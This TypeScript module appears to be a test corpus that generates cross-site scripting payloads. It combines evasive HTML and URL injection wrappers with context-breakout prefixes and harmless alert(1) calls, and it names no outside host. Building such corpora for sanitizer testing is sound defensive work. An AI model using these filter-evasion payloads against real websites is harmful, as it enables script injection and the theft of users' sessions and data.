const wrappings: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt\n>${call}</sCrIpT >`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<IMG SRC="jav&#x09;ascript:${call}">`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<iframe src="javascript:${call}"></iframe>`,
  (call) => `<iframe srcdoc="<script>${call}</script>">`,
  (call) => `<a href="javascript:${call}">https://care.example</a>`,
  (call) => `<a href='https://x.example' onclick='${call}'>x</a>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<math><mtext></mtext><mglyph><style><img src onerror=${call}></style></mglyph></math>`,
  (call) => `<object data="data:text/html,<script>${call}</script>">`,
  (call) => `<form><button formaction="javascript:${call}">x</button></form>`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<style>@import 'javascript:${call}';</style>`,
  (call) => `<template><slot onslotchange=${call}></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt\t:${call}//https://x.example`,
  (call) => `data:text/html;base64,PHNjcmlwdD4=${call}`,
  (call) => `vbscript:${call}`,
  (call) => `https://x.example/"onmouseover="${call}`,
  (call) => `https://x.example/'><script>${call}</script>`,
];

const breakouts = ['', '">', "'>", '</textarea>', '</title>', '-->', ']]>', '*/', '{{7*7}}', '\\"'];

const calls = ['alert(1)', '`${alert`1`}`'];

export const scriptPayloads: readonly string[] = calls.flatMap((call) =>
  breakouts.flatMap((breakout) => wrappings.map((wrap) => breakout + wrap(call))),
);
